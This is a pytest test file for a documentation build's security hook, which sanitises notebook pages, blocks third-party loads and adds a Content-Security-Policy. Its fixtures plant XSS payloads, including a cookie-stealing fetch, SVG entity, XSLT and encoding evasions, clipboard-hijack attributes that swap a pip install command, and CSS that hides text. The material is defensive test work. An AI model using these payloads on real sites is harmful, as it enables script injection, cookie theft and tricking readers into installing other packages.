"""docs/hooks/safety.py: notebook pages sanitised, third-party resource loads
fail the build with file:line, a Content-Security-Policy per page.

The planted faults go through a real ``mkdocs build --strict`` of a tiny site
that uses this project's hooks and mkdocs-jupyter (one notebook, one page),
each build a process of its own forked from a zygote that imported MkDocs
(tests/support/mkdocs_builds.py)."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

import safety  # docs/hooks, on pytest's pythonpath
from mkdocs_builds import mkdocs

ROOT = Path(__file__).resolve().parent.parent

MKDOCS_YML = f"""\
site_name: planted
site_url: https://example.org/planted/
theme:
  name: material
  font: false
hooks:
  - {ROOT / "docs" / "hooks" / "hooks.py"}
plugins:
  - mkdocs-jupyter:
      include: ["notebooks/*.py"]
      execute: true
      allow_errors: false
      cache: false
      include_source: true
      kernel_name: python3
"""


def build(tmp_path: Path, files: dict[str, str], config: str = "") -> tuple[subprocess.CompletedProcess, Path]:
    """``mkdocs build --strict`` of a site made of ``files`` (path under docs/ -> text)."""
    (tmp_path / "mkdocs.yml").write_text(MKDOCS_YML + config, encoding="utf-8")
    files = {"index.md": "# Home\n\nNothing here.\n", **files}
    for name, text in files.items():
        path = tmp_path / "docs" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text), encoding="utf-8")
    site = tmp_path / "site"
    # Through a zygote that has imported MkDocs and the hooks once (0.3 CPU-s a build, not 1.3).
    return mkdocs(["build", "--strict", "--site-dir", str(site)], cwd=tmp_path, timeout=300), site


PLANTED_NOTEBOOK = """\
# %% [markdown]
# # Planted
#
# <img src=x onerror=alert(1)> an image with a handler.
#
# <script>alert(2)</script>
#
# <script src=https://cdn.example/x.js></script>
#
# <a href="javascript:alert(3)">a javascript link</a>, <a href="https://example.org/">a link elsewhere</a>.
#
# <div id="__config" data-md-component="source" onclick="alert(4)">clobbers Material's config</div>
#
# <style>body { display: none }</style>
#
# Math stays: $a + b$.

# %%
from IPython.display import HTML, display

display(HTML("<script>alert(5)</script><b onmouseover=alert(6)>bold output</b><iframe src=about:blank></iframe>"))
"""


@pytest.mark.build
def test_script_and_handlers_in_a_notebook_are_stripped(tmp_path):
    result, site = build(tmp_path, {"notebooks/planted.py": PLANTED_NOTEBOOK})
    assert result.returncode == 0, result.stderr[-3000:]
    html = (site / "notebooks" / "planted" / "index.html").read_text(encoding="utf-8")
    start, end = html.index('<div class="jupyter-wrapper">'), html.index("</article>")
    notebook = html[start:end]
    live = elements(notebook)
    assert not [tag for tag, _ in live if tag in {"script", "style", "iframe"}], live
    assert not [(tag, a) for tag, attrs in live for a, v in attrs if a.startswith("on")]
    assert not [(tag, a) for tag, attrs in live for a, v in attrs if "javascript:" in (v or "")]
    assert not [(tag, a) for tag, attrs in live for a, v in attrs if a.startswith("data-md") or v == "__config"]
    # The planted script URL is gone entirely (a markdown cell is not shown as source).
    assert "cdn.example" not in notebook
    # What is not script stays: the image, the text, the link, the output, the math.
    assert ("img", [("alt", "No description has been provided for this image"), ("src", "x")]) in live
    assert "an image with a handler" in notebook
    assert '<a href="https://example.org/">a link elsewhere</a>' in notebook
    assert "<b>bold output</b>" in notebook and "clobbers Material's config" in notebook
    assert "<math" in notebook
    # The page's only scripts are the template's and Material's, each hashed in the policy.
    policy = html.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
    hashes = safety.inline_script_hashes(html)
    assert hashes and all(h in policy for h in hashes)


@pytest.mark.build
def test_third_party_loads_on_a_page_fail_the_build_with_file_and_line(tmp_path):
    # The front matter lets the page keep its <script> (the build then checks where it loads from).
    page = """\
    ---
    allow_inline_scripts: true
    ---
    # Loads

    <script src=https://cdn.example/x.js></script>

    <p style="background: url(https://cdn.example/bg.png)">styled</p>

    <style>
    .x { background-image: url("//cdn.example/y.png"); }
    </style>

    <img srcset="local.png 1x, https://cdn.example/big.png 2x" src="local.png" alt="">

    <link rel="preload" href="https://cdn.example/font.woff2">

    <meta http-equiv="refresh" content="0; url=https://elsewhere.example/">

    [an ordinary link elsewhere](https://example.org/) is fine.
    """
    result, _ = build(tmp_path, {"loads.md": page})
    assert result.returncode != 0
    err = result.stderr
    assert "docs/loads.md -> loads/index.html: loads resources from another host" in err, err[-3000:]
    # Each names the page's source line and the built file's line.
    built = r" \(built loads/index\.html:\d+\)"
    expected = [
        r"docs/loads.md:6: <script src='https://cdn.example/x.js'> loads from another host" + built,
        r"docs/loads.md:8: style attribute url\('https://cdn.example/bg.png'\) loads from another host" + built,
        r"docs/loads.md:11: CSS url\('//cdn.example/y.png'\) loads from another host" + built,
        r"docs/loads.md:14: <img srcset> candidate 'https://cdn.example/big.png' loads from another host" + built,
        r"docs/loads.md:16: <link rel='preload' href='https://cdn.example/font.woff2'> loads from another host" + built,
        r"docs/loads.md:18: <meta http-equiv=refresh content='0; url=https://elsewhere.example/'> "
        r"sends the page to another host" + built,
    ]
    for pattern in expected:
        assert re.search(pattern, err), f"{pattern}\nnot in:\n{err[-3000:]}"
    assert "example.org" not in err
    # Lines are the built file's lines, in order.
    lines = [int(n) for n in re.findall(r"built loads/index.html:(\d+)\)", err)]
    assert lines == sorted(lines) and len(set(lines)) >= 5, lines


#: The Markdown extensions of mkdocs.yml that change what a page's HTML is.
SITE_MARKDOWN = """\
markdown_extensions:
  - attr_list
  - md_in_html
  - toc:
      permalink: true
  - pymdownx.arithmatex:
      generic: true
  - pymdownx.superfences
"""

SCRIPT_WHY = "a page runs no script of its own (widgets live in docs/javascripts/qkv.js)"
THEME_WHY = "Material's own scripts act on it"


@pytest.mark.build
def test_a_script_of_a_markdown_pages_own_fails_the_build_with_file_and_line(tmp_path):
    """Issue 26.7: the CSP hashed every inline script it found, so a pull request's script ran.
    Review M6: the guard read lines, so escaped backticks and a one-line ```x``` "fence" hid one.
    Review M7: nothing kept a Markdown page from giving Material's copy button another command."""
    page = """\
    # Scripts

    Shown as code, fine: `<script>x()</script>` and

    ```html
    <button onclick="x()">shown, not run</button>
    ```

    <script>fetch('/steal?' + document.cookie)</script>

    <img src="x.png" onerror="alert(1)" alt="x">

    [a link](javascript:alert(1))

    A script between escaped backticks: \\`<script>alert(8)</script>\\`

    ```not-a-fence```

    <script>alert(9)</script>

    Install: `pip install qkv` <a class="md-clipboard md-icon" data-clipboard-text="pip install qkv-helper-tools">copy</a>

    [copy it](#){ data-clipboard-target="#evil" }
    """
    result, _ = build(tmp_path, {"scripts.md": page}, config=SITE_MARKDOWN)
    assert result.returncode != 0
    err = result.stderr
    expected = [
        (9, "<script> \"fetch('/steal?' + document.cookie)\"", SCRIPT_WHY),
        (11, "onerror= on <img>", SCRIPT_WHY),
        (13, "a javascript: URL in <a href>", SCRIPT_WHY),
        (15, "<script> 'alert(8)'", SCRIPT_WHY),
        (19, "<script> 'alert(9)'", SCRIPT_WHY),
        (21, "data-clipboard-text on <a>", THEME_WHY),
        (23, "data-clipboard-target on <a>", THEME_WHY),
    ]
    for line, what, why in expected:
        assert f"docs/scripts.md:{line}: {what}: {why}" in err, f"line {line}:\n{err[-3000:]}"
    assert "docs/scripts.md:3:" not in err and "docs/scripts.md:6:" not in err


@pytest.mark.build
def test_the_front_matter_switches_are_booleans_and_the_sql_runner_needs_a_block(tmp_path):
    """Review L3: sql_runner: true without a runner block satisfied the csp_wasm guard."""
    wasm, _ = build(tmp_path, {"wasm.md": "---\ncsp_wasm: true\n---\n# W\n"})
    assert "docs/wasm.md: csp_wasm: true loosens the page's Content-Security-Policy" in wasm.stderr, wasm.stderr[-800:]
    (tmp_path / "r").mkdir()
    runner, _ = build(tmp_path / "r", {"runner.md": "---\nsql_runner: true\ncsp_wasm: true\n---\n# R\n\nNo SQL.\n"})
    assert runner.returncode != 0
    assert "docs/runner.md: sql_runner: true, but the page has no SQL block for it" in runner.stderr, runner.stderr[
        -800:
    ]


@pytest.mark.parametrize("value", ['"no"', '"false"', "1", "yes please"])
def test_a_front_matter_switch_that_is_not_a_boolean_is_refused(value):
    import yaml
    from mkdocs.exceptions import PluginError

    import hooks

    class Page:
        meta = yaml.safe_load(f"csp_wasm: {value}")
        file = type("File", (), {"src_uri": "chapters/x.md"})

    with pytest.raises(
        PluginError, match=r"docs/chapters/x\.md: csp_wasm: .* is not a YAML boolean; write csp_wasm: true"
    ):
        hooks.flag(Page, "csp_wasm")
    Page.meta = {"csp_wasm": False}
    assert hooks.flag(Page, "csp_wasm") is False and hooks.flag(Page, "sql_runner") is False


MATH_NOTEBOOK = """\
# %% [markdown]
# # Planted
#
# Math, with a script in its text: $\\text{<script>document.documentElement.dataset.pwned=7</script>}$.
#
# Install the library: <code>pip install qkv</code> <a class="md-clipboard md-icon" title="Copy to clipboard" data-clipboard-text="pip install qkv-helper-tools" data-clipboard-target="#x">copy</a>
#
# <div data-copy="pip install qkv-helper-tools"><pre><code>pip install qkv</code></pre></div>
"""

MATH_PAGE = """\
# Math &lt;script&gt;document.documentElement.dataset.pwned=13&lt;/script&gt;

The score is \\(\\text{&lt;script&gt;document.documentElement.dataset.pwned=10&lt;/script&gt;}\\).

## A heading \\(\\text{&lt;script&gt;document.documentElement.dataset.pwned=11&lt;/script&gt;}\\)

$$
\\text{<b>bold?</b> & <i>no markup</i>}
$$
"""


@pytest.fixture(scope="module")
def math_site(tmp_path_factory) -> dict[str, str]:
    """The built HTML of a Markdown page and a notebook page with the review's math and clipboard plants."""
    tmp_path = tmp_path_factory.mktemp("math")
    result, site = build(tmp_path, {"math.md": MATH_PAGE, "notebooks/math.py": MATH_NOTEBOOK}, config=SITE_MARKDOWN)
    assert result.returncode == 0, result.stderr[-3000:]
    built = {"math.md": "math/index.html", "notebooks/math.py": "notebooks/math/index.html"}
    return {page: (site / path).read_text(encoding="utf-8") for page, path in built.items()}


@pytest.mark.build
def test_math_makes_no_markup(math_site):
    """Review M5: latex2mathml copied \\text{...} into <mtext> unescaped: a live <script> on a
    Markdown page (its table of contents too) and on a notebook page, and the CSP hashed it."""
    live = [(page, body) for page, html in math_site.items() for body in _script_bodies(html) if "pwned" in body]
    assert not live
    for page, html in math_site.items():  # each shows as text
        assert "&lt;script&gt;document.documentElement.dataset.pwned=" in html, page
    assert (
        "<mtext>&lt;b&gt;bold?&lt;/b&gt;&#x000A0;&amp;&#x000A0;&lt;i&gt;no&#x000A0;markup&lt;/i&gt;</mtext>"
        in (math_site["math.md"])
    )


@pytest.mark.build
def test_script_text_in_a_title_is_not_allowed_by_the_policy(math_site):
    """A first heading that shows "<script>" as text puts it raw into <title>, where a browser reads
    text; the policy hashed it as an inline script, allowing that body anywhere on the page."""
    html = math_site["math.md"]
    policy = html.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
    digest = base64.b64encode(hashlib.sha256(b"document.documentElement.dataset.pwned=13").digest()).decode()
    assert f"'sha256-{digest}'" not in policy
    # The header, the navigation and the heading itself show it as text.
    assert html.count("Math &lt;script&gt;document.documentElement.dataset.pwned=13&lt;/script&gt;") >= 3


@pytest.mark.parametrize(
    "front_matter",
    [
        "description: '\"><script>alert(1)</script>'",
        "title: '<img src=x onerror=alert(1)>'",
        "extra:\n  - social: '<b>'",
    ],
)
def test_front_matter_the_theme_shows_unescaped_holds_no_markup(front_matter):
    import yaml
    from mkdocs.exceptions import PluginError

    import hooks

    class Page:
        meta = yaml.safe_load(front_matter)
        file = type("File", (), {"src_uri": "x.md"})

    with pytest.raises(PluginError, match=r"docs/x\.md: front matter [\w.\[\]]+: .* hold no <, > or \""):
        hooks.check_front_matter(Page)
    Page.meta = {"title": "Attention: what's a query?", "hide": ["toc"], "sql_runner": True}
    hooks.check_front_matter(Page)


#: Review N1: front matter whose text reaches the page through str() of a mapping, a list or bytes.
FRONT_MATTER_SHAPES = {
    "a mapping's key": 'title: {"<script>alert(13)</script>": 1}',
    "!!binary bytes": "title: !!binary PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=",  # <script>alert(14)</script>
    "!!binary bytes in a list": "hide: [toc, !!binary PGI+]",  # <b>
    "a nested key": 'extra:\n  - {"<b>": fine}',
    "a set member": 'tags: !!set {"<i>": null}',
    "an ordered mapping's key": 'extra: !!omap [{"<u>": 1}]',
    "a list as title": "title: [a, b]",
    "a mapping as description": "description: {a: 1}",
}


@pytest.mark.parametrize("front_matter", FRONT_MATTER_SHAPES.values(), ids=FRONT_MATTER_SHAPES.keys())
def test_front_matter_keys_nested_values_and_bytes_are_checked_too(front_matter):
    """Review N1: only string values were checked; a mapping's key or !!binary bytes in the title
    reached the header and nav as a live <script>, which the policy then hashed."""
    from mkdocs.exceptions import PluginError
    from mkdocs.utils.meta import get_data

    import hooks

    class Page:
        meta = get_data(f"---\n{front_matter}\n---\n# X\n")[1]
        file = type("File", (), {"src_uri": "x.md"})

    assert Page.meta, front_matter
    with pytest.raises(
        PluginError, match=r"docs/x\.md: front matter \w[^:]*: .* (hold no <, > or \"|holds text|as text)"
    ):
        hooks.check_front_matter(Page)


@pytest.mark.build
def test_a_front_matter_mapping_as_title_fails_the_build(tmp_path):
    """Review N1, as built: the mapping's key was a live <script> in the header and the nav."""
    page = '---\ntitle: {"<script>document.documentElement.dataset.pwned=13</script>": 1}\n---\n\n# Key\n\nText.\n'
    result, site = build(tmp_path, {"key.md": page})
    assert result.returncode != 0, "built"
    assert "docs/key.md: front matter title: " in result.stderr, result.stderr[-3000:]


def test_a_script_inside_title_is_text_and_gets_no_hash():
    page = "<html><head><title>A <script>alert(1)</script></title><script>go()</script></head></html>"
    expected = base64.b64encode(hashlib.sha256(b"go()").digest()).decode()
    assert safety.inline_script_hashes(page) == [f"'sha256-{expected}'"]


@pytest.mark.build
def test_a_notebook_keeps_no_attribute_materials_copy_button_acts_on(math_site):
    """Review M7: nh3 kept data-clipboard-text, so the copy icon by `pip install qkv` copied another command.
    Review N2: and data-copy, which Material's copy button copies instead of the code shown."""
    notebook = math_site["notebooks/math.py"]
    assert "data-clipboard" not in notebook and "data-copy" not in notebook
    assert "qkv-helper-tools" not in notebook
    assert notebook.count("pip install qkv</code>") == 2


@pytest.mark.build
def test_data_copy_on_a_code_block_fails_the_build(tmp_path):
    """Review N2: Material's copy button copies the closest [data-copy] ancestor's value
    instead of the code shown, so `pip install qkv` could copy another command."""
    page = """\
    # Install

    <div data-copy="pip install qkv-helper-tools" markdown>

    ```bash
    pip install qkv
    ```

    </div>

    ```{.bash data-copy="pip install qkv-other-tools"}
    pip install qkv
    ```
    """
    result, _ = build(tmp_path, {"install.md": page}, config=SITE_MARKDOWN)
    assert result.returncode != 0
    for line, tag in ((3, "div"), (11, "div")):
        assert f"docs/install.md:{line}: data-copy on <{tag}>: {THEME_WHY}" in result.stderr, result.stderr[-3000:]


STYLE_WHY = "a page's content carries no CSS of its own"


@pytest.mark.build
def test_a_pages_own_css_fails_the_build_with_file_and_line(tmp_path):
    """Security re-review 2, P1: a page's <style> hid a token only while Material's copy button was not
    copying, so the reader saw `pip install qkv` and the clipboard got another index. P4: a style="display:none"
    split a number the prose check read as 0.x1192, and ::after { content } drew one it never read."""
    page = """\
    # Install

    <style>.highlight code:not([data-md-copying]) .s1 { display: none }</style>

    ```bash
    pip install qkv '--index-url=https://pypi.example.invalid/simple'
    ```

    The weight is 0.<span style="display:none">x</span>1192.

    | token | weight |
    |:------|-------:|
    | bank  | 1      |
    """
    result, _ = build(tmp_path, {"install.md": page}, config=SITE_MARKDOWN)
    assert result.returncode != 0
    err = result.stderr
    assert f"docs/install.md:3: <style>: {STYLE_WHY}" in err, err[-3000:]
    assert f'docs/install.md:9: style="display:none" on <span>: {STYLE_WHY}' in err, err[-3000:]
    assert "text-align" not in err  # the table's alignment is the Markdown's own


STATIC_WHY = "a file under docs/ that is not a page is copied to the site as it is"


@pytest.mark.build
def test_a_script_in_a_static_html_or_svg_file_fails_the_build_naming_the_file(tmp_path):
    """Review N3: an .html or .svg file under docs/ was copied as it is, its script live on the
    site's origin with no Content-Security-Policy (an SVG opened in its own tab, an HTML demo).
    Re-review 2, P2 and P3: an SVG entity spelled the script with character references, and an
    .xml's <?xml-stylesheet?> named an XSLT that built one; Chromium ran both, and neither file held "<script".
    Re-review 3, Q6: an <!ATTLIST> gave the svg a default onload."""
    files = {
        "demo.html": (
            "<!doctype html>\n<html><head><title>Demo</title></head>\n<body><h1>Attention demo</h1>\n"
            "<script>document.documentElement.dataset.pwned=11</script>\n</body></html>\n"
        ),
        "img/figure.svg": (
            '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">\n'
            "<script>document.documentElement.dataset.pwned=12</script>\n"
            '<rect width="10" height="10" onclick="go()"/></svg>\n'
        ),
        "img/prefixed.svg": (
            '<s:svg xmlns:s="http://www.w3.org/2000/svg">\n<s:script>alert(1)</s:script>\n'
            '<s:a href="x"><s:set attributeName="href" to="javascript:alert(2)"/></s:a></s:svg>\n'
        ),
        "img/entity.svg": (
            '<?xml version="1.0"?>\n<!DOCTYPE svg [\n'
            '<!ENTITY s "&#60;script&#62;document.documentElement.dataset.pwned=21&#60;/script&#62;">\n'
            ']>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">&s;</svg>\n'
        ),
        "img/attlist.svg": (
            '<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ATTLIST svg onload CDATA "go()">\n]>\n'
            '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>\n'
        ),
        # An .xml or .xsl file under docs/ fails the build by its suffix now (re-review 6b, T4); an SVG
        # can name an XSLT too.
        "data/x.svg": (
            '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="t.xsl"?>\n'
            '<svg xmlns="http://www.w3.org/2000/svg">hi</svg>\n'
        ),
        "p.md": "# Page\n\nSee [the demo](demo.html) and ![a figure](img/figure.svg).\n",
    }
    result, _ = build(tmp_path, files)
    assert result.returncode != 0
    err = result.stderr
    for where, what in [
        ("docs/demo.html:4", "<script> 'document.documentElement.dataset.pwned=11'"),
        ("docs/img/figure.svg:2", "<script> 'document.documentElement.dataset.pwned=12'"),
        ("docs/img/figure.svg:3", "onclick= on <rect>"),
        ("docs/img/prefixed.svg:2", "<s:script> 'alert(1)'"),
        ("docs/img/prefixed.svg:3", "a javascript: URL in <s:set to>"),
    ]:
        assert f"{where}: {what}: {STATIC_WHY}" in err, f"{where}:\n{err[-3000:]}"
    subset = "a DOCTYPE's internal subset: a browser expands its entities into markup"
    assert f"docs/img/entity.svg:2: {subset}" in err, err[-3000:]
    assert f"docs/img/attlist.svg:2: {subset}" in err, err[-3000:]  # re-review 3, Q6: a default onload
    assert "docs/data/x.svg:2: <?xml-stylesheet: a browser runs the XSLT it names" in err, err[-3000:]


@pytest.mark.build
def test_a_static_html_file_gets_the_content_security_policy(tmp_path):
    """Review N3: every page gets a Content-Security-Policy, static HTML under docs/ included."""
    demo = '<!doctype html>\n<html><head><meta charset="utf-8"><title>Demo</title></head><body>Demo</body></html>\n'
    result, site = build(tmp_path, {"demo.html": demo, "img/figure.svg": '<svg xmlns="http://www.w3.org/2000/svg"/>'})
    assert result.returncode == 0, result.stderr[-3000:]
    built = (site / "demo.html").read_text(encoding="utf-8")
    assert built.startswith(
        '<!doctype html>\n<html><head><meta charset="utf-8">\n    <meta http-equiv="Content-Security'
    )
    assert "script-src 'self'; style-src" in built
    # A static page's loads are held back by the policy (and named by the build: third_party_loads).
    assert "default-src 'self'" in built and "img-src 'self' data:" in built


def _script_bodies(html: str) -> list[str]:
    """The text of every <script> element a browser would run in ``html``
    (inside <title>, "<script>" is text)."""
    from html.parser import HTMLParser

    bodies: list[str] = []

    class Parser(HTMLParser):
        inside = in_title = False

        def handle_starttag(self, tag, attrs):
            self.in_title = self.in_title or tag == "title"
            if tag == "script" and not self.in_title:
                self.inside = True
                bodies.append("")

        def handle_data(self, data):
            if self.inside:
                bodies[-1] += data

        def handle_endtag(self, tag):
            self.inside = self.inside and tag != "script"
            self.in_title = self.in_title and tag != "title"

    Parser().feed(html)
    return bodies


@pytest.mark.build
def test_a_remote_image_in_a_notebook_fails_the_build_naming_the_notebook(tmp_path):
    notebook = """\
    # %% [markdown]
    # # Remote
    #
    # <img src="https://cdn.example/plot.png" alt="a plot">

    # %%
    from IPython.display import HTML, display

    display(HTML('<span style="background:url(https://cdn.example/s.png)">styled output</span>'))
    """
    result, _ = build(tmp_path, {"notebooks/remote.py": notebook})
    assert result.returncode != 0
    err = result.stderr
    assert "docs/notebooks/remote.py -> notebooks/remote/index.html: loads resources from another host" in err, err[
        -3000:
    ]
    assert "docs/notebooks/remote.py:4: <img src='https://cdn.example/plot.png'> loads from another host (built" in err
    # A style attribute is CSS of the notebook's own: the sanitiser drops it, url() and all (re-review 2, P1).
    assert "cdn.example/s.png" not in err


def elements(html: str) -> list[tuple[str, list]]:
    """(tag, attributes) of every element in ``html``, as a browser would build them."""
    from html.parser import HTMLParser

    found = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Parser().feed(html)
    return found


@pytest.mark.build
def test_a_stylesheet_that_imports_from_another_host_fails_the_build(tmp_path):
    css = '/* the site\'s own styles */\n@import url("https://fonts.example/inter.css");\n.x { color: red }\n'
    result, _ = build(tmp_path, {"stylesheets/extra.css": css}, config="extra_css:\n  - stylesheets/extra.css\n")
    assert result.returncode != 0
    assert (
        "stylesheets/extra.css:2: CSS url('https://fonts.example/inter.css') loads from another host" in result.stderr
    ), result.stderr[-3000:]


# --- the pieces, one by one ---------------------------------------------------


@pytest.mark.parametrize(
    ("url", "third_party"),
    [
        ("https://cdn.example/x.js", True),
        ("//cdn.example/x.js", True),
        ("  HTTPS://cdn.example/x.js", True),
        ("ht\ttps://cdn.example/x.js", True),
        ("\\\\cdn.example/x.js", True),
        ("ftp://cdn.example/x", True),
        ("../assets/x.js", False),
        ("/qkv/assets/x.js", False),
        ("data:image/png;base64,AAAA", False),
        ("#anchor", False),
        ("", False),
    ],
)
def test_what_counts_as_another_host(url, third_party):
    assert safety.is_third_party(url) is third_party


def test_each_kind_of_load_is_found_with_its_line():
    html = "\n".join(
        [
            "<html><head>",
            '<link rel="stylesheet" href="https://cdn.example/a.css">',  # 2
            '<link rel="icon" href="//cdn.example/favicon.ico">',  # 3
            '<link rel="manifest" href="https://cdn.example/m.json">',  # 4
            '<link rel="modulepreload" href="https://cdn.example/m.js">',  # 5
            '<link rel="canonical" href="https://example.org/">',  # not a load
            "<style>@import 'https://cdn.example/b.css';</style>",  # 7
            "</head><body>",
            '<video poster="https://cdn.example/p.png"></video>',  # 9
            '<object data="https://cdn.example/o.swf"></object>',  # 10
            '<svg><image href="https://cdn.example/i.png"/></svg>',  # 11
            '<a href="https://example.org/">fine</a>',
            '<base href="https://cdn.example/">',  # 13
            "</body></html>",
        ]
    )
    found = safety.third_party_loads(html, "page.html")
    assert [f.split(": ", 1)[0] for f in found] == [f"page.html:{n}" for n in (2, 3, 4, 5, 7, 9, 10, 11, 13)], found


def test_css_files_are_checked_too():
    css = "a { color: red }\n.b {\n  background: url(https://cdn.example/x.png);\n}\n"
    assert safety.css_file_loads(css, "stylesheets/qkv.css") == [
        "stylesheets/qkv.css:3: CSS url('https://cdn.example/x.png') loads from another host"
    ]
    assert safety.css_file_loads("a { background: url(data:image/png;base64,AA) }", "x.css") == []


def test_the_policy_hashes_each_inline_script_as_the_browser_does():
    body = "var x = 1;\r\nvar y = 2;"
    page = (
        '<!doctype html><html><head>\n<meta charset="utf-8">\n<title>t</title>'
        f'<script>{body}</script><script src="a.js"></script>'
        '<script id="__config" type="application/json">{"a": "&amp;"}</script></head><body></body></html>'
    )
    expected = base64.b64encode(hashlib.sha256(body.replace("\r\n", "\n").encode()).digest()).decode()
    out = safety.with_csp(page, "t.html")
    meta = out.split("\n")[2]
    assert meta.startswith('    <meta http-equiv="Content-Security-Policy" content="'), out
    assert f"'sha256-{expected}'" in meta
    assert "script-src 'self' 'sha256-" in meta and "'wasm-unsafe-eval'" not in meta
    assert "object-src 'none'; base-uri 'self'; connect-src 'self'" in meta
    assert "'wasm-unsafe-eval'" in safety.with_csp(page, "t.html", wasm=True)
    # mkdocs serve's live-reload script changes on every request: no hash can allow it.
    served = safety.with_csp(page, "t.html", live_reload=True)
    assert "script-src 'self' 'unsafe-inline';" in served and "sha256" not in served
    with pytest.raises(ValueError, match=r"t\.html: <p> comes before any <head>, so there is no <head> to put"):
        safety.with_csp("<p>x</p>", "t.html")


def test_a_notebook_keeps_only_the_alignment_of_its_style_attributes():
    """Security re-review 2, P1: CSS of a notebook's own could hide text the copy button copies."""
    cleaned = safety._clean(
        '<pre><code>pip install qkv<span style="font-size:0"> evil</span></code></pre>'
        '<table><tr><td style="text-align: right">1</td></tr></table><style>.s1 { display: none }</style>'
    )
    assert "font-size" not in cleaned and "<style" not in cleaned and "display" not in cleaned
    assert 'style="text-align: right"' in cleaned and "<span> evil</span>" in cleaned


def test_a_changed_mkdocs_jupyter_template_is_reported():
    with pytest.raises(
        ValueError, match=r"docs/notebooks/x\.py: no <div class=\"jupyter-wrapper\"> .* its template changed"
    ):
        safety.sanitise_notebook("<div><script>alert(1)</script></div>", "docs/notebooks/x.py")


@pytest.mark.parametrize(
    ("content", "what"),
    [
        # Security review 3b: S4 (a <base> moves the theme's scripts), S5 (a shadow root or popover hides text).
        ('<p><base href="/evil/x/y/"></p>', "<base>"),
        ('<p><span><template shadowrootmode="open">0.6652</template>0.1111</span></p>', "<template>"),
        ("<p>0.<span popover>x</span>2447</p>", "popover or shadow root on <span>"),
        ("<p>\\`<script>alert(8)</script>\\`</p>", "<script> 'alert(8)'"),
        ("<math><mtext><script>alert(1)</script></mtext></math>", "<script> 'alert(1)'"),
        ('<script src="/x.js"></script>', '<script> (src="/x.js")'),
        ("<p>unclosed <script>alert(1)", "<script>"),
        ('<svg><a href=" java&#x09;script:alert(1)">x</a></svg>', "a javascript: URL in <a href>"),
        ("<object data=x.svg></object>", "<object>"),
        ("<embed src=x.svg>", "<embed>"),
        ('<iframe srcdoc="&lt;b&gt;"></iframe>', "<iframe>"),
        ('<a data-clipboard-text="pip install evil">copy</a>', "data-clipboard-text on <a>"),
        ('<div data-copy="pip install evil"><pre><code>pip install qkv</code></pre></div>', "data-copy on <div>"),
        ("<svg><svg:script>alert(1)</svg:script></svg>", "<svg:script> 'alert(1)'"),
        (
            '<svg><a href="#"><animate attributeName="href" values="#;javascript:alert(1)"/></a></svg>',
            "a javascript: URL in <animate values>",
        ),
        ('<span data-md-component="announce">x</span>', "data-md-component on <span>"),
        ('<div id="__config">{}</div>', 'id="__config" on <div>'),
        # Where Python's parser reads text and a browser markup: a comment closed by --!>, a <style> in <svg>.
        ("<p><!-- x --!><script>alert(1)</script> --></p>", "'<script'"),
        ("<svg><style><img src=x onerror=alert(1)></style></svg>", "'onerror'"),
        # A page's own CSS (security re-review 2, P1 and P4).
        ("<style>code:not([data-md-copying]) .s1 { display: none }</style>", "<style>"),
        ("<svg><svg:style>.w::after { content: '0.6652' }</svg:style></svg>", "<svg:style>"),
        ('<p><link rel="stylesheet" href="../../stylesheets/copy.css"></p>', "<link>"),
        ('<pre><code>pip install qkv<span style="font-size:0"> evil</span></code></pre>', 'style="font-size:0" on'),
        ('<td style="text-align: right; color: transparent">1</td>', 'style="text-align: right; color: transparent"'),
        ("<p><!-- x --!><b style='font-size:0'>y</b> --></p>", "'style=font-size:0'"),
        # Hidden without CSS (security re-review 3, Q4): Material's classes, SVG and MathML attributes.
        ('<p>0.<span class="md-tooltip">x</span>2447</p>', 'class="md-tooltip" on <span>'),
        ('<p>0.<svg><text display="none">x</text></svg>1192</p>', 'display="none" on <text>'),
        ('<p><math><mn>0.7311</mn><mn mathsize="0">1</mn></math></p>', 'mathsize="0" on <mn>'),
        ('<p><svg><text opacity="0.01">pip install evil</text></svg></p>', 'opacity="0.01" on <text>'),
    ],
)
def test_each_kind_of_page_code_is_found_in_the_built_html(content, what):
    problems = safety.page_code(content, "docs/x.md", f"# X\n\n{content}\n")
    assert any(problem.startswith(f"docs/x.md:3: {what}") for problem in problems), problems


def test_shown_code_tabs_and_plain_links_are_not_page_code():
    content = (
        '<p><code>&lt;script&gt;x()&lt;/script&gt;</code> <a href="https://example.org/javascript:">a</a></p>'
        '<div class="tabbed-set"><input id="__tabbed_1_1" name="__tabbed_1" type="radio"></div>'
        '<div class="qkv-widget" data-widget="positions" style="min-height: 22rem; --qkv-phone-min-height: 25rem">'
        '</div><table><tr><th style="text-align: left;">a</th><td style="text-align:right">1</td></tr></table>'
        '<p>Set <code>data-md-color-scheme="slate"</code>; the runner is JavaScript: x = javascript: no.</p>'
    )
    assert safety.page_code(content, "docs/x.md") == []
    assert safety.page_code("<p><b onclick=go()>x</b></p>", "docs/x.md", "# X\n")[0].startswith(
        "docs/x.md: onclick= on <b> (in the built page; no line of the source holds it): a page runs no script"
    )


def test_the_docstring_examples_hold():
    import doctest

    import hooks

    for module in (safety, hooks):
        assert doctest.testmod(module).failed == 0, module.__name__


def test_a_static_file_that_is_not_plain_utf8_fails_the_build(tmp_path):
    """Security re-review 4, R2: a UTF-16 SVG (byte-order mark first) was read as UTF-8 with
    replacement characters, so no pattern matched its onload, and Chromium ran it."""
    from mkdocs.exceptions import PluginError

    import hooks

    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="document.documentElement.dataset.pwned=16"/>'
    (tmp_path / "img").mkdir()
    (tmp_path / "img" / "wide.svg").write_bytes(svg.encode("utf-16"))
    (tmp_path / "img" / "fine.svg").write_bytes(b"\xef\xbb\xbf" + b'<svg xmlns="http://www.w3.org/2000/svg"/>')
    # Review 3b, S1: every byte ASCII, but ISO-2022-JP reads <scr ESC(B ipt> as <script>.
